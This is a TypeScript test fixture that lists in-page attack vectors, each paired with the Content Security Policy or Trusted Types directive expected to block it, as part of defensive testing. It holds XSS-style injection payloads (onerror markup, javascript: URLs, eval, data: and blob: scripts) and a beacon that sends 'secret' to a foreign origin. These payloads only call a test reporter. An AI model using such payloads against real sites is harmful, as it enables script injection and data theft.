/** Attacks from inside a page: what a foreign script or a foreign text in it would try. Each runs in the page, alone. */

export interface Attack {
  readonly name: string;
  /** Directives of which one refuses it, where it does not throw at once. */
  readonly refusedBy: RegExp;
  /** false: needs what a plain http page does not have either, so there is nothing to compare with. */
  readonly worksOpen?: false;
  /** Reports by `hit(name)`, or asks the foreign site for `/hit/NAME`. */
  act(target: { readonly name: string; readonly origin: string }): unknown;
}

const scripts = /^(script-src|require-trusted-types-for|trusted-types)/;
const markup = /^(require-trusted-types-for|script-src)/;

/** Given by the watching script of the page. */
declare function hit(name: string): void;

/** The debugger through which an attack comes in may use eval until its own call is over. */
export const attacks: readonly Attack[] = [
  {
    name: 'inline-script',
    refusedBy: scripts,
    act({ name }) {
      const script = document.createElement('script');
      script.append(`hit('${name}')`);
      document.body.append(script);
    },
  },
  {
    name: 'script-text',
    refusedBy: scripts,
    act({ name }) {
      const script = document.createElement('script');
      script.textContent = `hit('${name}')`;
      document.body.append(script);
    },
  },
  {
    name: 'svg-script',
    refusedBy: scripts,
    act({ name }) {
      const script = document.createElementNS('http://www.w3.org/2000/svg', 'script');
      script.append(`hit('${name}')`);
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      svg.append(script);
      document.body.append(svg);
    },
  },
  {
    name: 'event-attribute',
    refusedBy: scripts,
    act({ name }) {
      const button = document.createElement('button');
      button.setAttribute('onclick', `hit('${name}')`);
      document.body.append(button);
      button.click();
    },
  },
  {
    name: 'eval',
    refusedBy: scripts,
    async act({ name }) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      (0, eval)(`hit('${name}')`);
    },
  },
  {
    name: 'new-function',
    refusedBy: scripts,
    async act({ name }) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      new Function(`hit('${name}')`)();
    },
  },
  {
    name: 'generator-function',
    refusedBy: scripts,
    async act({ name }) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      const Generator = Object.getPrototypeOf(function* () {}).constructor as FunctionConstructor;
      (new Generator(`hit('${name}')`)() as { next(): void }).next();
    },
  },
  {
    name: 'timer-text',
    refusedBy: scripts,
    async act({ name }) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      setTimeout(`hit('${name}')`, 0);
    },
  },
  {
    name: 'inner-html',
    refusedBy: markup,
    act({ name }) {
      const box = document.createElement('div');
      document.body.append(box);
      box.innerHTML = `<img src=x: onerror="hit('${name}')">`;
    },
  },
  {
    name: 'outer-html',
    refusedBy: markup,
    act({ name }) {
      const box = document.createElement('div');
      document.body.append(box);
      box.outerHTML = `<img src=x: onerror="hit('${name}')">`;
    },
  },
  {
    name: 'insert-html',
    refusedBy: markup,
    act: ({ name }) => document.body.insertAdjacentHTML('beforeend', `<img src=x: onerror="hit('${name}')">`),
  },
  {
    name: 'contextual-fragment',
    refusedBy: markup,
    act({ name }) {
      document.body.append(document.createRange().createContextualFragment(`<script>hit('${name}')</script>`));
    },
  },
  {
    name: 'document-write',
    refusedBy: markup,
    act: ({ name }) => document.write(`<script>hit('${name}')</script>`),
  },
  {
    name: 'frame-document',
    refusedBy: markup,
    act({ name }) {
      const frame = document.createElement('iframe');
      frame.srcdoc = `<script>parent.hit('${name}')</script>`;
      document.body.append(frame);
    },
  },
  {
    name: 'script-link',
    refusedBy: scripts,
    act({ name }) {
      const link = document.createElement('a');
      link.href = `javascript:hit('${name}')`;
      document.body.append(link);
      link.click();
    },
  },
  {
    name: 'script-address',
    refusedBy: scripts,
    act: ({ name }) => location.assign(`javascript:hit('${name}')`),
  },
  {
    name: 'foreign-script',
    refusedBy: scripts,
    act({ name, origin }) {
      const script = document.createElement('script');
      script.src = `${origin}/hit/${name}.js`;
      document.body.append(script);
    },
  },
  {
    name: 'data-script',
    refusedBy: scripts,
    act({ name }) {
      const script = document.createElement('script');
      script.src = `data:text/javascript,hit('${name}')`;
      document.body.append(script);
    },
  },
  {
    name: 'foreign-module',
    refusedBy: scripts,
    act: ({ name, origin }) => import(`${origin}/hit/${name}.js`),
  },
  {
    name: 'blob-module',
    refusedBy: scripts,
    act: ({ name }) => import(URL.createObjectURL(new Blob([`hit('${name}')`], { type: 'text/javascript' }))),
  },
  {
    name: 'foreign-picture',
    refusedBy: /^img-src/,
    act({ name, origin }) {
      new Image().src = `${origin}/hit/${name}.svg`;
    },
  },
  {
    name: 'picture-in-style',
    refusedBy: /^img-src/,
    act({ name, origin }) {
      const box = document.createElement('div');
      box.style.cssText = `width:9px;height:9px;background:url(${origin}/hit/${name}.svg)`;
      document.body.append(box);
      box.getBoundingClientRect();
    },
  },
  {
    name: 'foreign-style',
    refusedBy: /^style-src/,
    act({ name, origin }) {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = `${origin}/hit/${name}.css`;
      document.head.append(link);
    },
  },
  {
    name: 'inline-style',
    refusedBy: /^style-src/,
    act({ name }) {
      const style = document.createElement('style');
      style.append('body { --attacked: 1 }');
      document.head.append(style);
      if (getComputedStyle(document.body).getPropertyValue('--attacked') !== '') hit(name);
    },
  },
  {
    name: 'style-attribute',
    refusedBy: /^style-src/,
    act({ name }) {
      const box = document.createElement('div');
      box.setAttribute('style', '--attacked: 1');
      document.body.append(box);
      if (getComputedStyle(box).getPropertyValue('--attacked') !== '') hit(name);
    },
  },
  {
    name: 'foreign-font',
    refusedBy: /^font-src/,
    act: ({ name, origin }) => new FontFace('x', `url(${origin}/hit/${name}.woff2)`).load().catch(() => undefined),
  },
  {
    name: 'foreign-fetch',
    refusedBy: /^connect-src/,
    act: ({ name, origin }) => fetch(`${origin}/hit/${name}.txt`),
  },
  {
    name: 'foreign-request',
    refusedBy: /^connect-src/,
    act({ name, origin }) {
      const request = new XMLHttpRequest();
      request.open('GET', `${origin}/hit/${name}.txt`);
      request.send();
    },
  },
  {
    name: 'beacon',
    refusedBy: /^connect-src/,
    act: ({ name, origin }) => void navigator.sendBeacon(`${origin}/hit/${name}.txt`, 'secret'),
  },
  {
    name: 'event-source',
    refusedBy: /^connect-src/,
    act: ({ name, origin }) => void new EventSource(`${origin}/hit/${name}.events`),
  },
  {
    name: 'foreign-socket',
    refusedBy: /^connect-src/,
    act: ({ name, origin }) => void new WebSocket(`${origin.replace('http', 'ws')}/hit/${name}`),
  },
  {
    name: 'foreign-frame',
    refusedBy: /^frame-src/,
    act({ name, origin }) {
      const frame = document.createElement('iframe');
      frame.src = `${origin}/hit/${name}.html`;
      document.body.append(frame);
    },
  },
  {
    name: 'object',
    refusedBy: /^object-src/,
    act({ name, origin }) {
      const object = document.createElement('object');
      object.data = `${origin}/hit/${name}.svg`;
      document.body.append(object);
    },
  },
  {
    name: 'embed',
    refusedBy: /^(object-src|require-trusted-types-for)/,
    act({ name, origin }) {
      const embed = document.createElement('embed');
      embed.src = `${origin}/hit/${name}.svg`;
      document.body.append(embed);
    },
  },
  {
    name: 'media',
    refusedBy: /^media-src/,
    act({ name, origin }) {
      const audio = document.createElement('audio');
      audio.preload = 'auto';
      audio.src = `${origin}/hit/${name}.ogg`;
      document.body.append(audio);
      audio.load();
    },
  },
  {
    name: 'base',
    refusedBy: /^base-uri/,
    act({ name, origin }) {
      const base = document.createElement('base');
      base.href = `${origin}/elsewhere/`;
      document.head.append(base);
      if (document.baseURI.includes('elsewhere')) hit(name);
      base.remove();
    },
  },
  {
    name: 'form',
    refusedBy: /^form-action/,
    act({ name, origin }) {
      const form = document.createElement('form');
      form.action = `${origin}/hit/${name}.html`;
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: 'blob-worker',
    refusedBy: /^(worker-src|require-trusted-types-for)/,
    async act({ name }) {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })));
      await new Promise((resolve, reject) => {
        worker.onmessage = resolve;
        worker.onerror = reject;
      });
      hit(name);
    },
  },
  {
    name: 'data-worker',
    refusedBy: /^(worker-src|require-trusted-types-for)/,
    async act({ name }) {
      const worker = new Worker('data:text/javascript,postMessage(1)');
      await new Promise((resolve, reject) => {
        worker.onmessage = resolve;
        worker.onerror = reject;
      });
      hit(name);
    },
  },
  {
    name: 'shared-worker',
    refusedBy: /^(worker-src|require-trusted-types-for)/,
    async act({ name }) {
      const code = 'onconnect = (event) => event.ports[0].postMessage(1)';
      const worker = new SharedWorker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
      await new Promise((resolve, reject) => {
        worker.port.onmessage = resolve;
        worker.onerror = reject;
      });
      hit(name);
    },
  },
  {
    name: 'own-policy',
    refusedBy: /^trusted-types/,
    worksOpen: false,
    act({ name }) {
      const types = (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } })
        .trustedTypes;
      types.createPolicy('mine', { createHTML: (text: string) => text });
      hit(name);
    },
  },
  {
    name: 'same-policy-again',
    refusedBy: /^trusted-types/,
    worksOpen: false,
    act({ name }) {
      const types = (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } })
        .trustedTypes;
      types.createPolicy('spikeloom', { createScriptURL: (text: string) => text });
      hit(name);
    },
  },
  {
    name: 'default-policy',
    refusedBy: /^trusted-types/,
    worksOpen: false,
    act({ name }) {
      const types = (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } })
        .trustedTypes;
      types.createPolicy('default', { createHTML: (text: string) => text, createScript: (text: string) => text });
      hit(name);
    },
  },
  {
    name: 'wasm-module',
    refusedBy: scripts,
    act({ name }) {
      new WebAssembly.Module(Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0));
      hit(name);
    },
  },
  {
    name: 'wasm-instantiate',
    refusedBy: scripts,
    async act({ name }) {
      await WebAssembly.instantiate(Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0));
      hit(name);
    },
  },
];
